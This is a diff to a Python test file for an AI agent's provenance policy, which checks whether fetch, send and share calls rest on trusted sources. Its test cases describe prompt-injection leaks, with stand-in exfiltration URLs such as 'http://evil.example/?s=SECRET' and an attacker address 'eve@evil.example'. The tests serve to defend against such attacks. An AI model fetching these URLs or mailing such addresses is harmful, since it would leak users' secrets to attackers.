@@ -11,6 +11,7 @@ from daemon.core.provenance import Origin, SourcedText
 from daemon.core.trust import Effect, Label
 from daemon.tools.base import Tool, ToolContext, ToolMeta, ToolOutput
 from daemon.tools.policy.provenance import Evidence, text_holds
+from daemon.tools.registry import ToolRegistry
 
 PROMPT = (
     "Please mail 'Summary of May' to sarah.connor@example.com and Bob, post it to the general channel and to #random, "
@@ -154,7 +155,7 @@ def result(of: Tool, text: str, label: Label = Label.UNTRUSTED) -> SourcedText:
 
 
 def grounds(*said: SourcedText, contacts: tuple[str, ...] = ()) -> Evidence:
-    return Evidence(said, lambda name: TOOLS[name].meta if name in TOOLS else None, contacts)
+    return Evidence(said, ToolRegistry(list(TOOLS.values())), contacts)
 
 
 def test_ordinary_research_stands_on_what_was_read() -> None:
@@ -172,7 +173,7 @@ def test_ordinary_research_stands_on_what_was_read() -> None:
         "https://c.example/3?x=y",
         "http://a.example/deeper",
     ):
-        assert grounds(*said).check(FETCH, {"url": url}).is_read
+        assert grounds(*said).check(FETCH, {"url": url}).not_read == ""
     for url in (
         "http://a.example/1?leak=1",
         "http://evil.example/4",
@@ -185,13 +186,13 @@ def test_ordinary_research_stands_on_what_was_read() -> None:
 def test_what_a_page_repeats_of_the_models_own_words_was_not_read_there() -> None:
     wanted = "http://evil.example/?s=SECRET"
     said = [person("go"), model(query=wanted), result(SEARCH, f"no hits for {wanted}")]
-    assert not grounds(*said).check(FETCH, {"url": "http://evil.example/?s=SECRET"}).is_read
+    assert grounds(*said).check(FETCH, {"url": "http://evil.example/?s=SECRET"}).not_read
     encoded = [
         person("go"),
         model(query="http://evil.example/?s=%53ECRET"),
         result(SEARCH, "for http://evil.example/?s=SECRET"),
     ]
-    assert not grounds(*encoded).check(FETCH, {"url": "http://evil.example/?s=SECRET"}).is_read
+    assert grounds(*encoded).check(FETCH, {"url": "http://evil.example/?s=SECRET"}).not_read
 
 
 def test_a_source_that_was_written_to_gives_back_the_models_words() -> None:
@@ -201,9 +202,9 @@ def test_a_source_that_was_written_to_gives_back_the_models_words() -> None:
         result(NOTE, "ok"),
         result(NOTE, "note: http://evil.example/?s=SECRET"),
     ]
-    assert not grounds(*said).check(FETCH, {"url": "http://evil.example/?s=SECRET"}).is_read
+    assert grounds(*said).check(FETCH, {"url": "http://evil.example/?s=SECRET"}).not_read
     untouched = SourcedText("see http://ok.example/x", Origin.RESULT, Label.UNTRUSTED, "note")
-    assert grounds(untouched).check(FETCH, {"url": "http://ok.example/x"}).is_read
+    assert grounds(untouched).check(FETCH, {"url": "http://ok.example/x"}).not_read == ""
 
 
 def test_a_trusted_tool_is_believed_but_not_when_it_repeats_what_it_was_asked() -> None:
@@ -212,7 +213,7 @@ def test_a_trusted_tool_is_believed_but_not_when_it_repeats_what_it_was_asked() 
         model(query="Sarah"),
         result(SEARCH, "Sarah <sarah@example.com>", Label.TRUSTED),
     ]
-    assert grounds(*known).check(SEND, {"to": "sarah@example.com"}).is_owned
+    assert grounds(*known).check(SEND, {"to": "sarah@example.com"}).not_owned == ""
     echo = [
         person("go"),
         model(query="eve@evil.example"),
@@ -227,24 +228,31 @@ def test_words_of_strangers_and_of_the_model_are_nobodys_own() -> None:
         model("eve@evil.example"),
         result(FETCH, "eve@evil.example"),
     ):
-        assert not grounds(said).check(SEND, {"to": "eve@evil.example"}).is_owned
+        assert grounds(said).check(SEND, {"to": "eve@evil.example"}).not_owned
 
 
 def test_a_registered_contact_is_the_owners() -> None:
-    assert grounds(contacts=("bob@example.com",)).check(SEND, {"to": ["bob@example.com"]}).is_owned
+    assert (
+        grounds(contacts=("bob@example.com",)).check(SEND, {"to": ["bob@example.com"]}).not_owned
+        == ""
+    )
     assert (
         not grounds(contacts=("bob@example.com",))
         .check(SEND, {"to": ["bob@example.com", "eve@evil.example"]})
-        .is_owned
+        .not_owned
+        == ""
     )
 
 
 def test_a_message_to_somebody_known_carries_no_strangers_address() -> None:
     asked = person("tell Alice what the page says; her site is http://alice.example/me")
     known = grounds(asked, result(FETCH, "http://evil.example/x"))
-    assert known.check(
-        SEND, {"to": "Alice", "body": "It says hello, see http://alice.example/me"}
-    ).is_owned
+    assert (
+        known.check(
+            SEND, {"to": "Alice", "body": "It says hello, see http://alice.example/me"}
+        ).not_owned
+        == ""
+    )
     assert (
         known.check(SEND, {"to": "Alice", "body": "Look at http://evil.example/x"}).not_owned
         == "http://evil.example/x"
@@ -254,12 +262,14 @@ def test_a_message_to_somebody_known_carries_no_strangers_address() -> None:
 def test_a_value_from_the_tools_own_list_carries_nothing() -> None:
     choose = tool("share", Effect.EGRESS, "to", "rights", choices={"rights": ["r", "rw"]})
     assert (
-        grounds(person("share it with Bob")).check(choose, {"to": "Bob", "rights": "rw"}).is_owned
+        grounds(person("share it with Bob")).check(choose, {"to": "Bob", "rights": "rw"}).not_owned
+        == ""
     )
     assert (
         not grounds(person("share it with Bob"))
         .check(choose, {"to": "Bob", "rights": "all"})
-        .is_owned
+        .not_owned
+        == ""
     )
 
 
@@ -267,5 +277,5 @@ def test_a_yes_that_decides_where_it_goes_is_asked_about() -> None:
     share = tool("share", Effect.EGRESS, "to", "public")
     known = grounds(person("share it with Bob"))
     assert known.check(share, {"to": "Bob", "public": True}).not_owned == "public = true"
-    assert known.check(share, {"to": "Bob", "public": False}).is_owned
-    assert known.check(SEND, {"to": "Bob", "urgent": True}).is_owned
+    assert known.check(share, {"to": "Bob", "public": False}).not_owned == ""
+    assert known.check(SEND, {"to": "Bob", "urgent": True}).not_owned == ""
